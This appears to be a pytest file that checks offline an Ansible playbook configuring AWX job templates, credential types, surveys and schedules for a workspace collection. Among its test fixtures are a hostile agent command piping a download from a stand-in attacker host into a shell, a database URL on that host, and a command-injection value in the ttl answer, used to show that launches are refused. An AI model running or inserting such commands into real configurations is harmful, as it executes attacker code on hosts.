"""playbooks/awx_configure.yml, checked offline (no AWX here): every argument of every awx.awx task exists in that
module's own argument spec (awx.awx 24.6.1 of the venv, read from the module itself) with a value its choices allow;
the credential type injects exactly what the collection reads, secrets marked secret and kept out of the job's
variables; every job template names a playbook of the collection with a valid survey, asks for nothing on launch but
its survey's bounded answers (launched here by the rules of AWX's launch endpoint); the schedules name templates that
exist, with the rrule written out."""

import importlib
import os
import re

import jinja2.nativetypes
import pytest
import yaml

from ansible_collections.awx.awx.plugins.module_utils import controller_api
from ansible_collections.ephemera.workspaces.plugins.module_utils.core import ownership
from ansible_collections.ephemera.workspaces.plugins.module_utils.core.lease import MAX_TTL
from ansible_collections.ephemera.workspaces.plugins.module_utils.flows.create import NAME, PURPOSE_MAX
from ansible_collections.ephemera.workspaces.plugins.module_utils.guest.agents import BUILTIN
from ansible_collections.ephemera.workspaces.plugins.plugin_utils.in_process import module_file

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
PLAYBOOK = os.path.join(ROOT, 'playbooks', 'awx_configure.yml')
SURVEY_TYPES = {'text', 'textarea', 'password', 'integer', 'float', 'multiplechoice', 'multiselect'}
SECRET_FIELDS = {'api_token_secret', 'controller_secret', 'journal_url'}


class Unsafe(str):
    """A value tagged !unsafe: AWX's template text, never Ansible's."""


class Loader(yaml.SafeLoader):
    pass


Loader.add_constructor('!unsafe', lambda loader, node: Unsafe(loader.construct_scalar(node)))


class Stop(Exception):
    pass


def spec_of(module, monkeypatch):
    """The full argument spec of awx.awx.<module>: its own (captured from its main()) and the connection's."""
    captured = {}

    def capture(self, argument_spec=None, **kwargs):
        captured.update(argument_spec)
        raise Stop()
    monkeypatch.setattr(controller_api.ControllerAPIModule, '__init__', capture)
    with pytest.raises(Stop):
        importlib.import_module('ansible_collections.awx.awx.plugins.modules.' + module).main()
    spec = dict(controller_api.ControllerModule.AUTH_ARGSPEC)
    spec.update(captured)
    return spec


@pytest.fixture(scope='module')
def play():
    with open(PLAYBOOK) as handle:
        [only] = yaml.load(handle, Loader=Loader)
    return only


def awx_tasks(play):
    out = []
    for task in play['tasks']:
        modules = [key for key in task if key.startswith('awx.awx.')]
        assert len(modules) == 1, task['name']
        out.append((task, modules[0].split('.')[-1], task[modules[0]]))
    return out


def task_named(play, module, title=None):
    """The task of awx.awx.<module> that makes something (the retirement tasks delete); ``title`` its name when
    there are several."""
    [found] = [(task, args) for task, name, args in awx_tasks(play) if name == module
               and args.get('state') != 'absent' and task['name'] == (title or task['name'])]
    return found


SITE_TYPE, SITE_CREDENTIAL = 'Credential type ephemera.workspaces', 'Credential of this site'
HETZNER_TYPE, CLOUD_CREDENTIALS = 'Credential type of Hetzner Cloud', 'Credential of each cloud the site uses'


def templated(value):
    return isinstance(value, str) and '{{' in value


def test_every_argument_exists_in_the_modules_own_spec_with_an_allowed_value(play, monkeypatch):
    checked = set()
    for task, module, args in awx_tasks(play):
        spec = spec_of(module, monkeypatch)
        names = {name: name for name in spec}
        for name, option in spec.items():
            for alias in option.get('aliases') or ():
                names[alias] = name
        unknown = sorted(set(args) - set(names))
        assert not unknown, '%s: %s not in awx.awx.%s (%s)' % (task['name'], unknown, module, sorted(names))
        for key, value in args.items():
            option = spec[names[key]]
            if option.get('choices') and not templated(value):
                assert value in option['choices'], (task['name'], key, value, option['choices'])
            if option.get('type') == 'bool' and not templated(value):
                assert isinstance(value, bool), (task['name'], key, value)
        for name, option in spec.items():
            if option.get('required'):
                assert name in args or any(a in args for a in option.get('aliases') or ()), (task['name'], name)
        checked.add(module)
    assert checked == {'credential_type', 'credential', 'execution_environment', 'project', 'inventory', 'host',
                       'inventory_source', 'job_template', 'schedule'}


def collection_specs():
    for path in sorted(os.listdir(os.path.join(ROOT, 'plugins', 'modules'))):
        if path.endswith('.py') and path != '__init__.py':
            module = module_file(path[:-3])
            yield module.module_args()['argument_spec'] if hasattr(module, 'module_args') else module.argument_spec()


def collection_env_names():
    """Every environment variable a module of the collection falls back to, and the controller secret's."""
    names = {ownership.SECRET_ENV}
    for spec in collection_specs():
        for option in spec.values():
            fallback = option.get('fallback')
            if fallback:
                names.update(fallback[1])
    return names


def collection_options():
    options = set()
    for spec in collection_specs():
        options.update(spec)
    return options


def test_the_credential_type_injects_what_the_collection_reads(play):
    task, args = task_named(play, 'credential_type', SITE_TYPE)
    assert args['kind'] == 'cloud'
    fields = {field['id']: field for field in args['inputs']['fields']}
    assert set(fields) == {'api_host', 'api_token_id', 'api_token_secret', 'ca', 'controller_secret', 'journal_url'}
    assert set(name for name, field in fields.items() if field.get('secret')) == SECRET_FIELDS
    injectors = args['injectors']
    # Rendered by AWX, not by this play.
    for group in injectors.values():
        for value in group.values():
            assert isinstance(value, Unsafe), value
    used = set(re.findall(r'\{\{ (\w+) \}\}', ' '.join(v for group in injectors.values() for v in group.values())))
    assert used - {'tower'} <= set(fields)
    env = injectors['env']
    assert set(env) <= collection_env_names(), set(env) - collection_env_names()
    assert set(env) == {'PROXMOX_HOST', 'PROXMOX_TOKEN_ID', 'PROXMOX_TOKEN_SECRET', 'PROXMOX_CA_FILE',
                        'EPHEMERA_CONTROLLER_SECRET', 'EPHEMERA_JOURNAL_URL'}
    for name, value in env.items():
        assert any('{{ %s }}' % field in value for field in fields) or 'tower.filename' in value, name
    # The extra variables are ephemera_<option> of real options, and never carry a secret.
    options = collection_options()
    for name, value in injectors['extra_vars'].items():
        assert name.startswith('ephemera_') and name[len('ephemera_'):] in options, name
        assert not any(secret in value for secret in SECRET_FIELDS), name
    assert injectors['file'] == {'template.ca': '{{ ca }}'}


def test_the_credential_itself_is_never_logged(play):
    task, args = task_named(play, 'credential', SITE_CREDENTIAL)
    assert task['no_log'] is True and args['credential_type'] == '{{ _awx_credential_type }}'


def test_the_credential_type_is_named_after_its_inputs_and_retired_types_go_last(play):
    """AWX refuses to change the inputs of a credential type in use: a change of inputs or injectors is a new type
    (and credential), named after their fingerprint. Change them without the new name and this test says what to
    do; the names they replace are deleted only after everything that used them was switched."""
    import hashlib
    import json
    task, args = task_named(play, 'credential_type', SITE_TYPE)
    fingerprint = hashlib.sha256(json.dumps({'inputs': args['inputs'], 'injectors': args['injectors']},
                                            sort_keys=True).encode()).hexdigest()[:8]
    names = play['vars']
    hetzner = task_named(play, 'credential_type', HETZNER_TYPE)[1]
    hetzner_print = hashlib.sha256(json.dumps({'inputs': hetzner['inputs'], 'injectors': hetzner['injectors']},
                                              sort_keys=True).encode()).hexdigest()[:8]
    assert names['_awx_hetzner_inputs'] == hetzner_print, (
        "The Hetzner credential type's inputs or injectors changed: set _awx_hetzner_inputs to %s (its type and "
        "credential are named after it) and retire the names it had." % hetzner_print)
    assert hetzner['name'] == '{{ _awx_hetzner_type }}' and names['_awx_hetzner_type'].endswith(
        ' {{ _awx_hetzner_inputs }}')
    assert names['_awx_inputs'] == fingerprint, (
        "The credential type's inputs or injectors changed: set _awx_inputs to %s in playbooks/awx_configure.yml "
        "and add the names it had (ephemera.workspaces %s, ephemera.workspaces site %s) to _awx_retired."
        % (fingerprint, names['_awx_inputs'], names['_awx_inputs']))
    assert args['name'] == '{{ _awx_credential_type }}' and names['_awx_credential_type'].endswith(' {{ _awx_inputs }}')
    assert names['_awx_credential'].endswith(' {{ _awx_inputs }}')
    retired = names['_awx_retired']
    assert {'type': 'ephemera.workspaces', 'credential': 'ephemera.workspaces site'} in retired
    assert not [r for r in retired if fingerprint in r['type'] or fingerprint in r['credential']]
    order = [(module, a.get('state')) for t, module, a in awx_tasks(play)]
    users = [i for i, (module, state) in enumerate(order) if module in ('job_template', 'inventory_source')]
    deletions = [i for i, (module, state) in enumerate(order) if state == 'absent']
    assert [order[i][0] for i in deletions] == ['credential', 'credential_type'] and min(deletions) > max(users)
    for i in deletions:
        task = play['tasks'][i]
        assert task['loop'] == '{{ _awx_retired }}'


def test_each_job_template_runs_a_playbook_of_the_collection_with_a_valid_survey(play):
    task, args = task_named(play, 'job_template')
    templates = {item['name']: item for item in task['loop']}
    assert set(templates) == {'create', 'destroy', 'archive', 'reconcile', 'expire', 'heartbeat', 'status'}
    assert args['playbook'] == 'playbooks/{{ item.name }}.yml'
    for name in templates:
        assert os.path.isfile(os.path.join(ROOT, 'playbooks', name + '.yml')), name
    variables = {name: [q['variable'] if isinstance(q, dict) else 'workspace' for q in item.get('survey', [])]
                 for name, item in templates.items()}
    assert variables['create'] == ['workspace', 'repo', 'ref', 'purpose', 'agent', 'ttl']
    for name in ('destroy', 'archive', 'heartbeat'):
        assert variables[name] == ['workspace']
    questions = [q for item in templates.values() for q in item.get('survey', []) if isinstance(q, dict)]
    questions.append(play['vars']['_awx_workspace_question'])
    for question in questions:
        assert question['type'] in SURVEY_TYPES and question['question_name'] and question['variable']
    [ttl] = [q for q in questions if q['variable'] == 'ttl']
    assert ttl['type'] == 'integer' and ttl['max'] == 86400 and ttl['min'] <= ttl['default'] <= ttl['max']
    # The create role's own variables are what the survey asks for.
    with open(os.path.join(ROOT, 'roles', 'workspace_create', 'meta', 'argument_specs.yml')) as handle:
        role = yaml.safe_load(handle)['argument_specs']['main']['options']
    assert set(variables['create']) <= set(role)


def test_schedules_run_existing_templates_at_the_asked_intervals(play):
    task, args = task_named(play, 'schedule')
    jobs, templates = task_named(play, 'job_template')
    names = set('ephemera %s' % item['name'] for item in jobs['loop'])
    assert args['unified_job_template'] == 'ephemera {{ item.template }}'
    rules = {item['template']: item['rrule'] for item in task['loop']}
    for template, rule in rules.items():
        assert 'ephemera %s' % template in names
        assert re.match(r'^DTSTART;TZID=UTC:\d{8}T\d{6} RRULE:FREQ=[A-Z]+;INTERVAL=\d+$', rule), rule
    assert rules == {'reconcile': 'DTSTART;TZID=UTC:20260101T000000 RRULE:FREQ=HOURLY;INTERVAL=1',
                     'expire': 'DTSTART;TZID=UTC:20260101T000000 RRULE:FREQ=MINUTELY;INTERVAL=5'}


def test_the_inventory_source_reads_the_workspaces_plugin_file_of_the_project(play):
    task, args = task_named(play, 'inventory_source')
    assert args['source'] == 'scm' and args['credential'] == '{{ _awx_credential }}'
    with open(os.path.join(ROOT, args['source_path'])) as handle:
        config = yaml.safe_load(handle)
    assert config['plugin'] == 'ephemera.workspaces.workspaces' and args['source_path'].endswith('.workspaces.yml')


# What a launch of a job template may set: the variables of one request (docs/awx.md, "Who may change what").
REQUEST_VARIABLES = {'workspace', 'repo', 'ref', 'purpose', 'agent', 'ttl'}
# What whoever may launch a job must never choose: the journal, the agents' command lines, discarding unsaved work,
# deleting orphans, another controller secret, where the play runs.
HOSTILE = {'ephemera_journal_url': 'postgresql://mallory@db.evil.example/ephemera',
           'ephemera_agents': {'claude-code': {'command': 'curl https://evil.example | sh'}},
           'discard_unsaved_work': True, 'workspace_destroy_discard_unsaved_work': True, 'ephemera_orphans': 'delete',
           'orphan_vmid': 117, 'confirm_orphan': True, 'ephemera_controller_secret': 'f' * 64,
           'ephemera_new_journal': True, 'target': 'all', 'ansible_connection': 'ssh', 'rebrief_others': True,
           'awx_user_name': 'alice', 'ephemera_lease': 1}
GOOD = {'workspace': 'fix-login', 'repo': 'https://git.example.com/team/app.git', 'ref': 'main',
        'purpose': 'Fix the login form.', 'agent': 'codex', 'ttl': 3600}


def rendered_templates(play, agents=None):
    """The job templates as the play sends them to AWX, with its own variables filled in (ephemera_awx_agents as
    given): name -> the awx.awx.job_template arguments for that item, the survey's questions resolved."""
    task, args = task_named(play, 'job_template')
    env = jinja2.nativetypes.NativeEnvironment()
    context = dict(play['vars'], ephemera_awx_agents=agents or {})
    context['_awx_workspace_question'] = play['vars']['_awx_workspace_question']

    def render(value):
        if isinstance(value, dict):
            return {k: render(v) for k, v in value.items()}
        if isinstance(value, list):
            return [render(v) for v in value]
        if isinstance(value, str) and '{{' in value:
            return env.from_string(value).render(context)
        return value
    out = {}
    for item in task['loop']:
        context['item'] = render(item)
        out[item['name']] = {key: render(value) for key, value in args.items()}
    return out


def awx_launch(template, launch_vars):
    """The variables of a job launched from ``template`` with ``launch_vars``, by the rules of AWX's launch endpoint
    (api/v2/job_templates/N/launch/): a variable given at launch is taken when the template asks for variables on
    launch, or when it is the variable of a question of its enabled survey and the answer fits the question (text:
    its length within min and max; integer: within min and max; multiplechoice: one of the choices; a required one
    present); anything else refuses the launch. Returns (the job's extra variables, the errors)."""
    survey = template['survey_spec']['spec'] if template['survey_enabled'] else []
    questions = {q['variable']: q for q in survey}
    errors = []
    for name, value in launch_vars.items():
        question = questions.get(name)
        if question is None:
            if not template['ask_variables_on_launch']:
                errors.append('Variables %s are not allowed on launch' % name)
            continue
        kind = question['type']
        if kind in ('text', 'textarea', 'password'):
            if not isinstance(value, str):
                errors.append('%s: not a string' % name)
            elif 'min' in question and len(value) < int(question['min']) or \
                    'max' in question and len(value) > int(question['max']):
                errors.append('%s: length out of bounds' % name)
        elif kind == 'integer':
            if not isinstance(value, int) or isinstance(value, bool):
                errors.append('%s: not an integer' % name)
            elif 'min' in question and value < question['min'] or 'max' in question and value > question['max']:
                errors.append('%s: out of bounds' % name)
        elif kind == 'multiplechoice':
            if value not in question['choices']:
                errors.append('%s: not one of the choices' % name)
    for question in survey:
        if question.get('required') and question['variable'] not in launch_vars and 'default' not in question:
            errors.append('%s: value missing' % question['variable'])
    if errors:
        return None, errors
    variables = dict(template['extra_vars'] or {})
    for question in survey:
        if question['variable'] in launch_vars:
            variables[question['variable']] = launch_vars[question['variable']]
        elif 'default' in question:
            variables[question['variable']] = question['default']
    return variables, []


def test_no_job_template_asks_for_variables_on_launch(play):
    task, args = task_named(play, 'job_template')
    assert args['ask_variables_on_launch'] is False
    for name, template in rendered_templates(play).items():
        assert template['ask_variables_on_launch'] is False, name
        assert not any(key.startswith('ask_') and value is True for key, value in template.items()), name


def test_a_launch_cannot_set_what_only_the_templates_admin_may(play):
    """Each template launched with the variables an admin keeps for the site (the journal, the agents, discarding
    unsaved work, deleting orphans...) as extra variables, alone and beside good answers: AWX refuses the launch;
    the job never gets them."""
    templates = rendered_templates(play, agents={'aider': {'command': 'aider'}})
    for name, template in templates.items():
        answers = {q['variable']: GOOD[q['variable']] for q in template['survey_spec'].get('spec', [])}
        for hostile in [{key: value} for key, value in HOSTILE.items()] + [HOSTILE]:
            variables, errors = awx_launch(template, dict(answers, **hostile))
            assert variables is None and errors, (name, hostile)
        variables, errors = awx_launch(template, answers)
        assert errors == [], (name, errors)
        own = template['extra_vars'] or {}
        assert [key for key in HOSTILE if variables.get(key) != own.get(key)] == [], (name, variables)
        assert set(variables) - set(template['extra_vars'] or {}) <= REQUEST_VARIABLES, name
    # The agents an admin configured are the template's, and choices of the survey; a launcher picks one of them.
    create = templates['create']
    assert create['extra_vars']['ephemera_agents'] == {'aider': {'command': 'aider'}}
    [agent] = [q for q in create['survey_spec']['spec'] if q['variable'] == 'agent']
    assert agent['choices'] == sorted(BUILTIN) + ['aider']


@pytest.mark.parametrize('variable,answer', [
    pytest.param('workspace', 'w' * 41, id='workspace-too-long'), pytest.param('workspace', '', id='workspace-empty'),
    pytest.param('repo', 'https://git.example.com/' + 'r' * 2048, id='repo-too-long'),
    pytest.param('repo', '', id='repo-empty'), pytest.param('ref', 'r' * 256, id='ref-too-long'),
    pytest.param('purpose', 'p' * (PURPOSE_MAX + 1), id='purpose-too-long'),
    pytest.param('purpose', '', id='purpose-empty'), pytest.param('agent', 'mallory', id='agent-unknown'),
    pytest.param('agent', ['codex'], id='agent-list'), pytest.param('ttl', MAX_TTL + 1, id='ttl-too-long'),
    pytest.param('ttl', 299, id='ttl-too-short'), pytest.param('ttl', '3600; rm', id='ttl-text')])
def test_an_answer_out_of_its_questions_bounds_refuses_the_launch(play, variable, answer):
    variables, errors = awx_launch(rendered_templates(play)['create'], dict(GOOD, **{variable: answer}))
    assert variables is None and errors and errors[0].startswith(variable), errors


def test_every_question_is_bounded_by_what_the_collection_accepts(play):
    """Every answer is checked by AWX before the job starts: text within lengths no longer than the collection
    accepts, integers within the lease's bounds, a closed set as a multiple choice; and every question sets a
    variable of the request, never a setting of the site."""
    questions = [q for template in rendered_templates(play).values()
                 for q in template['survey_spec'].get('spec', [])]
    assert {q['variable'] for q in questions} == REQUEST_VARIABLES
    for question in questions:
        assert question['type'] in ('text', 'textarea', 'integer', 'multiplechoice'), question
        if question['type'] in ('text', 'textarea', 'integer'):
            assert isinstance(question['min'], int) and isinstance(question['max'], int), question
            assert question['min'] <= question['max'], question
        if question['type'] == 'multiplechoice':
            assert question['choices'] and question['default'] in question['choices'], question
        if question.get('required') is False:
            assert question['min'] == 0, question
    by_name = {q['variable']: q for q in questions}
    assert by_name['purpose']['max'] == PURPOSE_MAX
    assert by_name['ttl']['max'] == MAX_TTL
    assert by_name['workspace']['max'] == 40 and NAME.match('w' * 40) and not NAME.match('w' * 41)


def test_the_site_sets_the_job_timeout_and_the_claim_lease_of_every_job(play):
    """A job killed by AWX (cancelled, past its timeout) holds its workspace for the claim lease: both are the
    site's settings, the timeout on every template and the lease in the controller's variables, where the queue
    module takes it from (ephemera_lease)."""
    from ansible_collections.ephemera.workspaces.plugins.plugin_utils.in_process import from_variables
    env = jinja2.nativetypes.NativeEnvironment()
    task, args = [(t, a) for t, m, a in awx_tasks(play) if m == 'host'][0]
    for given, lease in (({}, 600), ({'ephemera_awx_claim_lease': '900'}, 900)):
        rendered = env.from_string(args['variables']['ephemera_lease']).render(dict(play['vars'], **given))
        assert rendered == lease
        queue_args = from_variables('queue', {}, {'ephemera_lease': rendered}, lambda value: value)
        assert queue_args['lease'] == lease
    templates = rendered_templates(play)
    assert set(t['timeout'] for t in templates.values()) == {3600}
    task, args = task_named(play, 'job_template')
    assert env.from_string(args['timeout']).render(dict(play['vars'], ephemera_awx_job_timeout=7200)) == 7200


OMITTED = '<omitted>'


def test_a_rerun_leaves_the_site_settings_kept_in_awx_as_they_are(play, monkeypatch):
    """awx.awx sends only the fields a task gives (inventory.py, job_template.py: a None option is not sent), and
    AWX replaces a field it is sent whole. So the settings an admin keeps in AWX survive a re-run: the controller
    inventory's variables are sent only when the site file gives ephemera_awx_settings, and a template's extra
    variables only for the template whose variables the play owns (create: the agents)."""
    env = jinja2.nativetypes.NativeEnvironment()

    def render(value, **given):
        return env.from_string(value).render(dict(play['vars'], omit=OMITTED, **given))
    [(task, args)] = [(t, a) for t, m, a in awx_tasks(play) if m == 'inventory' and 'controller' in a['name']]
    assert render(args['name']) == 'ephemera.workspaces controller'
    assert render(args['variables']) == OMITTED
    settings = {'ephemera_node': 'pve1', 'ephemera_pool': 'agents'}
    assert render(args['variables'], ephemera_awx_settings=settings) == settings
    # localhost's variables are the play's own: connection, interpreter, claim lease; no site setting among them.
    [(task, host)] = [(t, a) for t, m, a in awx_tasks(play) if m == 'host']
    assert set(host['variables']) == {'ansible_connection', 'ansible_python_interpreter', 'ephemera_lease'}
    task, template = task_named(play, 'job_template')
    for item in task['loop']:
        rendered = env.from_string(template['extra_vars']).render(dict(play['vars'], item=item, omit=OMITTED))
        if item['name'] == 'create':
            assert set(rendered) == {'ephemera_agents'}
        else:
            assert rendered == OMITTED, item['name']
    # Each of those modules really leaves out what it is not given.
    for module, option in (('inventory', 'variables'), ('job_template', 'extra_vars'), ('host', 'variables')):
        source = open(importlib.import_module('ansible_collections.awx.awx.plugins.modules.' + module).__file__).read()
        assert re.search(r'if %s is not None:' % option, source) or re.search(
            r"if module\.params\.get\('%s'\)( is not None)?:" % option, source), (module, option)


# AWX's own credential types for the clouds: the inputs each takes and the variables it injects (awx's credential
# plugins: aws, gce, azure_rm), which the collection reads (tests/unit/plugins/module_utils/
# test_awx_cloud_credentials.py shows each reaching its option).
AWX_CLOUD_TYPES = {
    'Amazon Web Services': ({'username', 'password', 'security_token'},
                            {'AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'AWS_SECURITY_TOKEN'}),
    # (and GCE_EMAIL, the key file's client_email again)
    'Google Compute Engine': ({'username', 'project', 'ssh_key_data'},
                              {'GCE_PROJECT', 'GCE_CREDENTIALS_FILE_PATH', 'GCP_SERVICE_ACCOUNT_FILE'}),
    'Microsoft Azure Resource Manager': ({'subscription', 'client', 'secret', 'tenant'},
                                         {'AZURE_SUBSCRIPTION_ID', 'AZURE_CLIENT_ID', 'AZURE_SECRET', 'AZURE_TENANT'}),
}
# Read by the SDK itself rather than by an option of the collection.
SDK_READS = {'AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'AWS_SECURITY_TOKEN'}
SECRETS = {'ephemera_awx_controller_secret': 'c' * 40, 'ephemera_awx_journal_url': 'postgresql://j/db',
           'ephemera_awx_project_url': 'https://git.example.com/ops/ephemera.git'}
CLOUDS = {
    'ephemera_awx_aws': {'access_key_id': 'AKIAEXAMPLE', 'secret_access_key': 'aws-secret'},
    'ephemera_awx_gcp_key': '{"type": "service_account", "client_email": "e@p.iam.gserviceaccount.com", '
                            '"private_key": "-----BEGIN PRIVATE KEY-----", "project_id": "p"}',
    'ephemera_awx_azure': {'subscription_id': 'sub', 'tenant_id': 'tenant', 'client_id': 'app',
                           'client_secret': 'az-secret'},
    'ephemera_awx_hetzner_token': 'hcloud-token',
}


def ansible_rendered(play, expression, **given):
    """``expression`` rendered by Ansible itself with the play's variables and ``given`` (its filters and tests)."""
    from ansible.parsing.dataloader import DataLoader
    from ansible.template import Templar, trust_as_template

    def trusted(value):
        if isinstance(value, str):
            return trust_as_template(value)
        if isinstance(value, dict):
            return {k: trusted(v) for k, v in value.items()}
        if isinstance(value, list):
            return [trusted(v) for v in value]
        return value
    templar = Templar(loader=DataLoader(), variables=trusted(dict(play['vars'], **given)))
    return templar.template(trust_as_template(expression))


def test_each_cloud_given_gets_awxs_own_credential_and_every_job_template_carries_it(play):
    task, args = task_named(play, 'credential', CLOUD_CREDENTIALS)
    assert task['no_log'] is True and task['loop'] == '{{ _awx_clouds }}'
    assert ansible_rendered(play, '{{ _awx_clouds }}', **SECRETS) == []
    clouds = ansible_rendered(play, '{{ _awx_clouds }}', **dict(SECRETS, **CLOUDS))
    by_type = {c['type']: c for c in clouds}
    hetzner_type = ansible_rendered(play, '{{ _awx_hetzner_type }}')
    assert set(by_type) == set(AWX_CLOUD_TYPES) | {hetzner_type}
    for name, (inputs, dummy) in AWX_CLOUD_TYPES.items():
        assert set(by_type[name]['inputs']) <= inputs, name
    assert by_type['Google Compute Engine']['inputs'] == {
        'username': 'e@p.iam.gserviceaccount.com', 'project': 'p', 'ssh_key_data': '-----BEGIN PRIVATE KEY-----'}
    assert by_type['Microsoft Azure Resource Manager']['inputs']['secret'] == 'az-secret'
    assert by_type[hetzner_type]['inputs'] == {'token': 'hcloud-token'}
    # Every job template gets the site's credential and every cloud's.
    names = ansible_rendered(play, '{{ _awx_credentials }}', **dict(SECRETS, **CLOUDS))
    assert names == [ansible_rendered(play, '{{ _awx_credential }}')] + [c['name'] for c in clouds]
    assert task_named(play, 'job_template')[1]['credentials'] == '{{ _awx_credentials }}'


def test_the_variables_awxs_cloud_credentials_inject_are_the_ones_the_collection_reads(play):
    read = collection_env_names() | SDK_READS
    for name, (dummy, injected) in AWX_CLOUD_TYPES.items():
        assert injected <= read, (name, injected - read)
    hetzner = task_named(play, 'credential_type', HETZNER_TYPE)[1]
    assert set(hetzner['injectors']) == {'env'} and set(hetzner['injectors']['env']) == {'HCLOUD_TOKEN'}
    assert 'HCLOUD_TOKEN' in collection_env_names()
    assert [f['id'] for f in hetzner['inputs']['fields'] if f.get('secret')] == ['token']
    # The site's own type no longer requires the Proxmox VE API: a site of clouds only has none to give.
    site = task_named(play, 'credential_type', SITE_TYPE)[1]
    assert site['inputs']['required'] == ['controller_secret', 'journal_url']
